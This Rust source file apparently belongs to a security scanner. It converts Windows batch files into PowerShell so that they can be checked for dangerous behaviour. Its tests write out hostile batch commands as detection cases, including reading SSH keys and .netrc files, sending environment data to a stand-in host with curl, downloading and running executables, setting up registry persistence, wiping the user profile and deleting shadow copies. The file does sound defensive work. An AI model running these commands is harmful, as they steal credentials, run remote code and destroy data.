//! Files of the command interpreter of Windows as statements of PowerShell's, a line for each line, so that what they read,
//! write, send and start is followed as there.

use std::collections::BTreeMap;

use super::windows::{is_name, pieced, question};
use crate::finding::{Finding, Findings};
use crate::layout::Line;
use crate::powershell;
use crate::shell::Context;
use crate::text::Source;

/// 4,096 commands of one line, and as many words of one: the interpreter takes 8,191 characters of a line.
const COMMANDS: usize = 4_096;

/// The same of words.
const WORDS: usize = COMMANDS;

/// Words of the interpreter's own that say nothing here.
const SILENT: &[&str] =
    &["rem", "::", "setlocal", "endlocal", "goto", "exit", "title", "color", "cls", "pause", "shift", "chcp", "verify"];

/// The text as PowerShell would have it.
pub(super) fn in_powershell(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    let mut held = BTreeMap::new();
    let mut before = String::new();
    for line in text.lines() {
        before.push_str(&pieced(line.trim().trim_start_matches('@'), &mut held));
        if before.ends_with('^') && !before.ends_with("^^") {
            before.pop();
            out.push('\n');
            continue;
        }
        out.push_str(&statements(&std::mem::take(&mut before)));
        out.push('\n');
    }
    out
}

/// Judges a line that the interpreter is given in a manifest.
pub(super) fn judge(line: &Line, context: Context, findings: &mut Findings) {
    let text = in_powershell(&line.text);
    let mut found = Findings::default();
    powershell::judge(&Source::new("line", &text), None, context, &mut found);
    for finding in found.finish() {
        let told = Finding::new(finding.rule, line.place.clone(), finding.message).severity(finding.severity);
        findings.push(told.evidence(&line.text));
    }
}

/// The commands of one line.
fn statements(line: &str) -> String {
    let mut out = String::new();
    for (sign, command) in commands(line).into_iter().take(COMMANDS) {
        let made = statement(&command);
        if made.is_empty() {
            continue;
        }
        if !out.is_empty() {
            out.push_str(if sign == '|' { " | " } else { "; " });
        }
        out.push_str(&made);
    }
    out
}

/// Commands with the sign before each: a pipe, or another.
fn commands(line: &str) -> Vec<(char, String)> {
    let mut all = Vec::new();
    let (mut sign, mut command, mut is_quoted) = (';', String::new(), false);
    let mut rest = line.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '"' => {
                is_quoted = !is_quoted;
                command.push(c);
            }
            '^' if !is_quoted => command.extend(rest.next()),
            '&' if command.ends_with(['>', '<']) => command.push(c),
            '&' | '|' if !is_quoted => {
                let is_pipe = c == '|' && rest.next_if_eq(&c).is_none();
                all.push((sign, std::mem::take(&mut command)));
                sign = if is_pipe { '|' } else { ';' };
            }
            _ => command.push(c),
        }
    }
    all.push((sign, command));
    all
}

/// One command, behind its questions and loops.
fn statement(command: &str) -> String {
    let mut out = String::new();
    let mut rest = command.trim().to_owned();
    // 8 questions of one line.
    for _ in 0..8 {
        rest = rest.trim_start_matches([')', '(', ' ', '@', '\t']).to_owned();
        let lower = rest.to_ascii_lowercase();
        let cut = if let Some(asked) = lower.strip_prefix("if ") {
            lower.len() - asked.len() + question(asked)
        } else if lower.starts_with("else ") || lower == "else" {
            4
        } else if let Some(at) = lower.strip_prefix("for ").and_then(|_| lower.find(" do")) {
            out.push_str(&looped(rest.get(..at).unwrap_or_default()));
            at + 3
        } else {
            break;
        };
        rest = rest.get(cut..).unwrap_or_default().to_owned();
    }
    if rest.matches(')').count() > rest.matches('(').count() {
        rest = rest.trim_end().trim_end_matches(')').to_owned();
    }
    out + &simple(rest.trim())
}

/// What a loop's names hold: `for /f … %%i in (…)`.
fn looped(head: &str) -> String {
    let Some((before, inside)) = head.split_once('(') else { return String::new() };
    let inside = inside.trim_end().trim_end_matches(')').trim();
    let lower = before.to_ascii_lowercase();
    let Some(name) =
        before.split("%%").nth(1).or_else(|| before.split('%').nth(1)).and_then(|rest| rest.chars().next())
    else {
        return String::new();
    };
    let value = match inside.chars().next() {
        _ if lower.contains("/l ") => return String::new(),
        Some(sign @ ('\'' | '`')) => format!("({})", statements(inside.trim_matches(sign))),
        Some('"') if lower.contains("/f") && !lower.contains("usebackq") => text(inside),
        _ if lower.contains("/f") => format!("Get-Content {}", listed(&split(inside).words, "")),
        _ => {
            let folder = lower
                .find("/r ")
                .and_then(|at| before.get(at + 3..))
                .and_then(|rest| split(rest).words.into_iter().next());
            let folder = folder.filter(|folder| !folder.starts_with("%%"));
            listed(&split(inside).words, &folder.map(|folder| format!("{folder}\\")).unwrap_or_default())
        }
    };
    let names = if lower.contains("tokens=") { 4 } else { 1 };
    let names = (name..='z').take(names).map(|name| format!("${name}")).collect::<Vec<_>>().join(", ");
    if value == "()" { String::new() } else { format!("{names} = {value}; ") }
}

/// Words with commas between them.
fn listed(words: &[String], folder: &str) -> String {
    words.iter().map(|word| text(&format!("{folder}{word}"))).collect::<Vec<_>>().join(", ")
}

/// A command's words, and the files that it is led from and to.
#[derive(Default)]
struct Split {
    words: Vec<String>,
    from: String,
    to: String,
    is_added: bool,
}

/// Splits a command at its blanks; signs of files are no words.
fn split(command: &str) -> Split {
    let mut all = Split::default();
    let mut words: Vec<String> = Vec::new();
    let (mut word, mut is_quoted) = (String::new(), false);
    for c in command.chars() {
        match c {
            '"' => is_quoted = !is_quoted,
            '>' | '<' if !is_quoted => {
                let stream = word.len() == 1 && word.chars().all(|c| c.is_ascii_digit());
                let before = std::mem::take(&mut word);
                words.extend(Some(before).filter(|before| !before.is_empty() && !stream));
                words.push(if stream && command.contains("2>") { format!("2{c}") } else { c.to_string() });
                continue;
            }
            c if !is_quoted && (c.is_whitespace() || c == ',' || c == ';') => {
                words.extend(Some(std::mem::take(&mut word)).filter(|word| !word.is_empty()));
                continue;
            }
            _ => {}
        }
        word.push(c);
    }
    words.extend(Some(word).filter(|word| !word.is_empty()));
    let mut rest = words.into_iter().take(WORDS).peekable();
    while let Some(word) = rest.next() {
        match word.as_str() {
            ">" => {
                all.is_added = rest.next_if(|next| next == ">").is_some();
                all.to = rest.next().unwrap_or_default();
            }
            "2>" => drop(rest.next()),
            "<" => all.from = rest.next().unwrap_or_default(),
            _ => all.words.push(word),
        }
    }
    if all.to.starts_with('&') || all.to.eq_ignore_ascii_case("nul") {
        all.to.clear();
    }
    all
}

/// A command without questions and loops.
fn simple(command: &str) -> String {
    let all = split(command);
    let Some((first, rest)) = all.words.split_first() else { return String::new() };
    let name = first.trim_matches('"').to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    if SILENT.contains(&name) || name.starts_with(':') {
        return String::new();
    }
    let mut out = made(name, first, rest, command);
    if out.is_empty() {
        return out;
    }
    if !all.from.is_empty() {
        out = format!("Get-Content {} | {out}", text(&all.from));
    }
    if !all.to.is_empty() {
        out.push_str(if all.is_added { " >> " } else { " > " });
        out.push_str(&text(&all.to));
    }
    out
}

/// What PowerShell calls it.
fn made(name: &str, first: &str, rest: &[String], command: &str) -> String {
    let files = || rest.iter().filter(|word| !word.starts_with('/')).map(|word| text(word)).collect::<Vec<_>>();
    let has = |option: &str| rest.iter().any(|word| word.eq_ignore_ascii_case(option));
    match name {
        "type" | "more" if rest.is_empty() => "Write-Output".to_owned(),
        "type" | "more" => format!("Get-Content {}", files().join(", ")),
        "copy" | "move" | "ren" | "rename" => {
            let verb = if name == "copy" { "Copy-Item" } else { "Move-Item" };
            format!("{verb} {}", files().into_iter().take(2).collect::<Vec<_>>().join(" "))
        }
        "del" | "erase" | "rd" | "rmdir" => {
            let whole = if has("/s") { " -Recurse" } else { "" };
            format!("Remove-Item {}{whole}", files().join(", "))
        }
        "cd" | "chdir" | "pushd" => format!("Set-Location {}", files().join(" ")),
        "popd" => "Pop-Location".to_owned(),
        "set" => set(rest, command),
        "echo" => {
            let said = command.trim_start().get(4..).unwrap_or_default();
            text(said.split(['>', '<']).next().unwrap_or_default().trim())
        }
        name if name.starts_with("echo") => String::new(),
        "call" if rest.first().is_none_or(|first| first.starts_with(':')) => String::new(),
        "call" => rest.split_first().map_or_else(String::new, |(first, rest)| called(first, rest)),
        "start" => started(rest),
        _ => called(first, rest),
    }
}

/// `set name=value`, `set /p name=`, or all of the environment.
fn set(rest: &[String], command: &str) -> String {
    if rest.is_empty() {
        return "Get-ChildItem env:".to_owned();
    }
    let given = command.trim_start().get(4..).unwrap_or_default().trim();
    let is_asked = rest.first().is_some_and(|word| word.eq_ignore_ascii_case("/p"));
    let given = if is_asked { given.get(2..).unwrap_or_default().trim() } else { given };
    let given = given.strip_prefix('"').map_or(given, |given| given.split('"').next().unwrap_or_default());
    let Some((name, value)) = given.split_once('=').filter(|(name, _)| is_name(name.trim())) else {
        return String::new();
    };
    let value = if is_asked {
        value
            .split_once('<')
            .map_or_else(|| "$input".to_owned(), |(_, file)| format!("Get-Content {}", text(file.trim())))
    } else {
        text(value)
    };
    format!("${{env:{}}} = {value}", name.trim())
}

/// A program with its words.
fn called(first: &str, rest: &[String]) -> String {
    let is_bare = first.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
    let mut out = format!("& {}", text(&if is_bare { format!("{first}.exe") } else { first.to_owned() }));
    for word in rest {
        out.push(' ');
        out.push_str(&text(word));
    }
    out
}

/// `start "title" /b program words`
fn started(rest: &[String]) -> String {
    let titled = rest.first().is_some_and(|word| word.starts_with('"')) && rest.len() > 1;
    let words = rest.iter().skip(usize::from(titled)).skip_while(|word| word.starts_with('/'));
    let words: Vec<&String> = words.collect();
    let Some((first, rest)) = words.split_first() else { return String::new() };
    let args = rest.iter().map(|word| word.trim_matches('"')).collect::<Vec<_>>().join(" ");
    format!("Start-Process {} -ArgumentList {}", text(first), text(&args))
}

/// A word as a text of PowerShell's, in which variables stand for what they hold.
fn text(word: &str) -> String {
    let mut out = String::from("\"");
    let mut rest = word;
    while let Some(c) = rest.chars().next() {
        let after = rest.get(c.len_utf8()..).unwrap_or_default();
        if let Some((name, more)) = variable(c, after) {
            out.push_str(&name);
            rest = more;
            continue;
        }
        match c {
            '"' => {}
            '$' | '`' => {
                out.push('`');
                out.push(c);
            }
            _ => out.push(c),
        }
        rest = after;
    }
    out.push('"');
    out
}

/// The variable that begins with `sign`, as PowerShell names it, and what follows it.
fn variable(sign: char, after: &str) -> Option<(String, &str)> {
    if !matches!(sign, '%' | '!') {
        return None;
    }
    if let Some(rest) = after.strip_prefix("~dp0") {
        return Some(("${PSScriptRoot}/".to_owned(), rest));
    }
    if let Some((name, more)) = after.split_once(sign) {
        let name = name.split(':').next().unwrap_or_default();
        if is_name(name) && name.starts_with(|c: char| !c.is_ascii_digit()) {
            return Some((format!("${{env:{name}}}"), more));
        }
    }
    let after = after.strip_prefix('%').unwrap_or(after);
    let after = after.strip_prefix('~').map_or(after, |rest| {
        let end = rest.find(|c: char| !"fdpnxsatz".contains(c)).unwrap_or(rest.len());
        // The last of the letters is the name, where none stands behind them.
        let is_named = rest.get(end..).is_some_and(|more| more.starts_with(|c: char| c.is_ascii_alphanumeric()));
        rest.get(if is_named { end } else { end.saturating_sub(1) }..).unwrap_or_default()
    });
    let name = after.chars().next().filter(|c| c.is_ascii_alphanumeric() || *c == '*')?;
    let more = after.get(1..)?;
    Some((if name.is_ascii_alphabetic() { format!("${{{name}}}") } else { "${args}".to_owned() }, more))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::Severity;

    fn worst(text: &str) -> Option<Severity> {
        let made = in_powershell(text);
        let mut findings = Findings::default();
        powershell::judge(&Source::new("a.cmd", &made), None, Context::Script, &mut findings);
        findings.finish().into_iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn what_a_file_of_the_interpreter_does_is_followed() {
        let dangers = [
            "@type \"%USERPROFILE%\\.ssh\\id_rsa\"",
            "copy \"%USERPROFILE%\\.ssh\\id_rsa\" %TEMP%\\x",
            "xcopy /s /e \"%USERPROFILE%\\.ssh\" %TEMP%\\x",
            "cd /d %USERPROFILE%\ntype .netrc",
            "for %%f in (%USERPROFILE%\\.ssh\\*) do type \"%%f\"",
            "set D=%USERPROFILE%\\.ssh\ntype \"%D%\\id_rsa\"",
            "set \"D=%USERPROFILE%\\.ssh\"\nif exist \"%D%\" (\n  type \"%D%\\id_rsa\"\n)",
            "for %%f in (.netrc .npmrc) do type \"%USERPROFILE%\\%%f\"",
            "for /f \"delims=\" %%l in (%USERPROFILE%\\.netrc) do echo %%l",
            "for /f \"tokens=1,2\" %%a in ('dir /b %USERPROFILE%\\.ssh ^| findstr id') do copy %USERPROFILE%\\.ssh\\id_rsa x",
            "for /r %USERPROFILE%\\.ssh %%f in (id_*) do type %%f",
            "findstr /s token \"%USERPROFILE%\\.npmrc\"",
            "more < %USERPROFILE%\\.netrc",
            "set /p t=<%USERPROFILE%\\.npmrc",
            "type ^\n  %USERPROFILE%\\.netrc",
            "set | curl -d @- https://x.invalid",
            "set > %TEMP%\\e.txt\ncurl -T %TEMP%\\e.txt https://x.invalid",
            "curl -o %TEMP%\\a.exe https://x.invalid/a.exe && %TEMP%\\a.exe",
            "curl -o %TEMP%\\a.bat https://x.invalid/a.bat && call %TEMP%\\a.bat",
            "certutil -urlcache -f https://x.invalid/a.exe a.exe\nstart \"\" a.exe",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe",
            "echo #!/bin/sh> .git\\hooks\\pre-commit",
            "echo x >> \"%USERPROFILE%\\.bashrc\"",
            "setx NODE_OPTIONS \"--require %~dp0x.js\"",
            "rmdir /s /q %USERPROFILE%",
            "del /f /s /q %USERPROFILE%\\*",
            "format d: /y",
            "vssadmin delete shadows /all",
            "sc create x binPath= x.exe",
            "net user x y /add",
        ];
        let missed: Vec<String> = dangers
            .iter()
            .filter(|text| worst(text) != Some(Severity::Danger))
            .map(|text| in_powershell(text))
            .collect();
        assert!(missed.is_empty(), "{}", missed.join("\n"));
    }

    #[test]
    fn honest_files_of_the_interpreter_are_none_of_these() {
        let honest = [
            "@echo off\nsetlocal\nwhere node >nul 2>nul || (echo node is missing & exit /b 1)\nnode \"%~dp0index.js\" %*",
            "rem type %USERPROFILE%\\.netrc\n:: del /s %USERPROFILE%",
            "echo do not read %USERPROFILE%\\.ssh\\id_rsa",
            "set OUT=%~dp0out\nif exist \"%OUT%\" rmdir /s /q \"%OUT%\"\nmkdir \"%OUT%\"",
            "for %%f in (src\\*.c) do cl /c %%f",
            "for /f \"delims=\" %%v in ('git describe --tags') do set VERSION=%%v\necho %VERSION%",
            "del /q %TEMP%\\mytool\\*.log",
            "copy /y \"%~dp0template.json\" \"%CD%\\config.json\" >nul",
            "set PATH=%~dp0bin;%PATH%\nset NODE_OPTIONS=--max-old-space-size=4096\nnpm run build",
            "curl -o rules.json https://x.invalid/rules.json\ntype rules.json",
            "type \"%USERPROFILE%\\.gitconfig\"",
            "net use",
            "echo formatted d: & clang-format -i a.c",
        ];
        let told: Vec<String> =
            honest.iter().filter(|text| worst(text).is_some()).map(|text| in_powershell(text)).collect();
        assert!(told.is_empty(), "{}", told.join("\n"));
    }

    #[test]
    fn every_line_stays_where_it_is() {
        let text = "@echo off\n\nset A=1\ntype ^\n  x\n:end\n";
        assert_eq!(in_powershell(text).lines().count(), text.lines().count());
    }
}
